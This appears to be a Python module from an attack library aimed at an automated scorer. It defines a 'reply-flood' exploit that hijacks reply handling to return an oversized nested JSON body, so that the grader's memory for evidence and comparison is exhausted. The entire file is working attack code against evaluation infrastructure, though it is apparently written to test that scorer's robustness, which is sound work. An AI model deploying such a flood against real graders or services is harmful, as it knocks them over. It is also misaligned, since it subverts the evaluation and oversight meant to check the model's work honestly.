"""Replies as large as they may be, made of as many small values as fit."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified import _late, _looks

CODE = """

_body = b'{"status": "ok", "value": [' + b"[]," * 340_000 + b"0]}"
_take_over(lambda case: _body)
"""

EXPLOIT = Exploit(
    name="reply-flood",
    flaw="feeds the grader",
    source="written against this scorer's own source",
    idea="a byte on the wire becomes fifty in the memory of who parses it, and all replies are kept until the end",
    files={**_looks.LATE, "tmp/late.py": _late.TAKE_OVER + CODE},
    command="python3 /tmp/append.py",
    start="sloppy",
    aims_at="the original's box and the scorer: the memory that evidence and comparison take",
)
